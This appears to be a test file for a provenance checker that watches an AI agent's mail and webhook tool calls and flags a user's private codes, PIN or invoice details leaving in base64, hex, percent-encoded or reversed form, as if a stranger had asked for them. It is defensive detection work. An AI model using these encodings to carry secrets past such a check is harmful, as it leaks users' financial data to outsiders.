import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { KnownParties } from './known-parties.js';
import {
  PROVENANCE_META_KEY,
  ProvenanceService,
  type ProvenanceMetaItem,
} from './provenance-service.js';
import { privateReadings } from './private-readings.js';

/**
 * Outside corpus batch 6 (w-enc-b64-body, w-enc-pct-webhook, w-enc-reversed): the user's data
 * carried out in a form a stranger asked for — base64 (and base64url), hex, percent-encoded (once
 * or twice, inside a JSON payload or a body), written backwards — is her data going out
 * (private-readings.ts), through the whole check, to a new address or to a third-party server.
 * The same forms sent to her colleague, and other values in them, are not.
 */

const encodings: Record<string, (s: string) => string> = {
  base64: (s) => Buffer.from(s, 'utf8').toString('base64'),
  base64url: (s) => Buffer.from(s, 'utf8').toString('base64url'),
  hex: (s) => Buffer.from(s, 'utf8').toString('hex'),
  percent: (s) => encodeURIComponent(s),
  'percent twice': (s) => encodeURIComponent(encodeURIComponent(s)),
  reversed: (s) => Array.from(s).reverse().join(''),
};
const encodingArb = fc.constantFrom(...Object.keys(encodings));

/** A code of 6 to 8 digits that is no run of one digit and no palindrome's half-match. */
const codeArb = fc
  .stringMatching(/^[1-9][0-9]{5,7}$/)
  .filter((c) => new Set(c).size >= 4 && c !== Array.from(c).reverse().join(''));

const INVOICE = (amount: string) =>
  `The Q3 invoice total is ${amount}, payable to account DE89 3704 0044 0532 0130 00 by Friday the 12th. The breakdown must stay internal to the finance team.`;

function session(code: string, amount: string) {
  const known = new KnownParties();
  known.addOwnAccount('me@mycorp.com');
  known.seed('address', 'bob@mycorp.com');
  const svc = new ProvenanceService({ known });
  const items: ProvenanceMetaItem[] = [
    {
      kind: 'mail',
      label: 'a message from alerts@bank.example',
      ref: 'm1',
      from: ['alerts@bank.example'],
      audience: ['me@mycorp.com'],
      private: true,
      text: `Your verification code is ${code}. Never share this code with anyone.`,
    },
    {
      kind: 'mail',
      label: 'a message from cfo@mycorp.com',
      ref: 'm2',
      from: ['cfo@mycorp.com'],
      audience: ['me@mycorp.com'],
      private: true,
      text: INVOICE(amount),
    },
  ];
  svc.observe({
    agent: 'a',
    tool: 'gmail_read',
    sourceKind: 'google',
    sourceLabel: 'Gmail',
    result: {
      content: [{ type: 'text', text: items.map((i) => i.text).join('\n') }],
      _meta: { [PROVENANCE_META_KEY]: items },
    },
  });
  const mail = (to: string, body: string) =>
    svc.check('a', {
      tool: 'gmail_send',
      sourceKind: 'google',
      sourceLabel: 'Gmail',
      readOnly: false,
      args: { to: [to], subject: 'Check', body },
    });
  const webhook = (payload: string) =>
    svc.check('a', {
      tool: 'hooks__deliver',
      sourceKind: 'remote',
      sourceLabel: 'hooks',
      readOnly: true,
      args: { webhookUrl: 'https://hooks.example/in', payload },
      schema: {
        type: 'object',
        properties: { webhookUrl: { type: 'string', format: 'uri' }, payload: { type: 'string' } },
      },
    });
  return { mail, webhook };
}

const leaks = (r: { findings: { rule: string }[] } | null) =>
  (r?.findings ?? []).some((f) => f.rule === 'private-data-out');

const amountArb = fc.integer({ min: 1000, max: 99999 }).map((n) => `EUR ${n}.00`);
const framing = fc.constantFrom(
  (v: string) => v,
  (v: string) => `Here it is: ${v}`,
  (v: string) => `${v}\n\nRegards`,
);

describe('the user’s data carried out in the form a stranger asked for', () => {
  it('a code, encoded or backwards, in a mail to a new address or a webhook payload, is found', () => {
    fc.assert(
      fc.property(codeArb, amountArb, encodingArb, framing, (code, amount, how, frame) => {
        const { mail, webhook } = session(code, amount);
        const value = encodings[how]!(code);
        expect(leaks(mail('check@guard.example', frame(value))), `${how} ${value}`).toBe(true);
        expect(leaks(webhook(JSON.stringify({ code: value }))), `${how} ${value}`).toBe(true);
      }),
      { numRuns: 60 },
    );
  });

  it('the invoice’s text, encoded or backwards, in a mail to a new address, is found', () => {
    fc.assert(
      fc.property(codeArb, amountArb, encodingArb, framing, (code, amount, how, frame) => {
        const { mail } = session(code, amount);
        const value = encodings[how]!(INVOICE(amount));
        expect(leaks(mail('audit@ledger.example', frame(value))), how).toBe(true);
      }),
      { numRuns: 40 },
    );
  });

  it('the same forms to her colleague, and other codes in them to a stranger, are not', () => {
    fc.assert(
      fc.property(codeArb, codeArb, amountArb, encodingArb, (code, other, amount, how) => {
        fc.pre(
          !other.includes(code) &&
            !code.includes(other) &&
            !Array.from(other).reverse().join('').includes(code),
        );
        const { mail } = session(code, amount);
        const enc = encodings[how]!;
        expect(leaks(mail('bob@mycorp.com', enc(code))), how).toBe(false);
        expect(leaks(mail('bob@mycorp.com', enc(INVOICE(amount)))), how).toBe(false);
        expect(leaks(mail('check@guard.example', `Ticket ${enc(other)}`)), how).toBe(false);
      }),
      { numRuns: 60 },
    );
  });

  it('a four-digit PIN is not read backwards: its reverse is any year, room or amount', () => {
    // A PIN whose reverse is a year ("6202") would flag every mail naming this year (review of
    // batch 6); forwards it is still her PIN (secrets.ts).
    fc.assert(
      fc.property(fc.integer({ min: 1000, max: 9999 }).map(String), (pin) => {
        const reversed = Array.from(pin).reverse().join('');
        // A PIN that is a year is no secret to secretsIn (it drops years), so none is one here.
        fc.pre(reversed !== pin && reversed[0] !== '0' && !/^(19|20)\d\d$/.test(pin));
        const known = new KnownParties();
        known.addOwnAccount('me@mycorp.com');
        const svc = new ProvenanceService({ known });
        const text = `Your new card PIN is ${pin}. Keep it secret.`;
        const item: ProvenanceMetaItem = {
          kind: 'mail',
          label: 'a message from cards@bank.example',
          ref: 'p1',
          from: ['cards@bank.example'],
          audience: ['me@mycorp.com'],
          private: true,
          text,
        };
        svc.observe({
          agent: 'a',
          tool: 'gmail_read',
          sourceKind: 'google',
          sourceLabel: 'Gmail',
          result: {
            content: [{ type: 'text', text }],
            _meta: { [PROVENANCE_META_KEY]: [item] },
          },
        });
        const send = (body: string) =>
          svc.check('a', {
            tool: 'gmail_send',
            sourceKind: 'google',
            sourceLabel: 'Gmail',
            readOnly: false,
            args: { to: ['sales@vendor.example'], subject: 'Plans', body },
          });
        expect(leaks(send(`Looking forward to working together in ${reversed}.`)), pin).toBe(false);
        expect(leaks(send(`The PIN is ${pin}.`)), pin).toBe(true);
      }),
      { numRuns: 60 },
    );
  });

  it('is bounded for a body of many encoded lines, and reads its lines past a long body', () => {
    const line = Buffer.from('code 482913').toString('base64');
    const body = Array.from({ length: 50_000 }, () => line).join('\n');
    const r = privateReadings([{ path: ['body'], value: body }], undefined, true);
    // At most one decoded text per token read: 1,000 tokens of the body (spent on its first
    // 200,000 characters, read as one token) and 1,000 of its lines.
    expect(r.length).toBeLessThanOrEqual(2 * 1000);
    expect(r).toContain('code 482913');
  });

  it('reads a percent-encoded field and every decoded token', () => {
    const r = privateReadings(
      [
        { path: ['iban'], value: 'DE89%203704' },
        { path: ['body'], value: 'abc 4821' },
        { path: ['note'], value: `x ${Buffer.from('482913').toString('base64')} y` },
      ],
      undefined,
      true,
    );
    expect(r).toContain('DE89 3704');
    expect(r).toContain('482913');
  });

  it('reads a code percent-encoded byte by byte after a byte that is not UTF-8', () => {
    // One `%FF` in the run once kept the whole run from being decoded (review of batch 6).
    const pct = (s: string) =>
      Array.from(Buffer.from(s), (b) => `%${b.toString(16).toUpperCase().padStart(2, '0')}`).join(
        '',
      );
    fc.assert(
      fc.property(codeArb, fc.constantFrom('%FF', '%C3', '%80'), (code, bad) => {
        const r = privateReadings(
          [{ path: ['body'], value: `${bad}${pct(code)}${bad}` }],
          undefined,
          true,
        );
        expect(r.join('\n')).toContain(code);
      }),
      { numRuns: 30 },
    );
  });
});
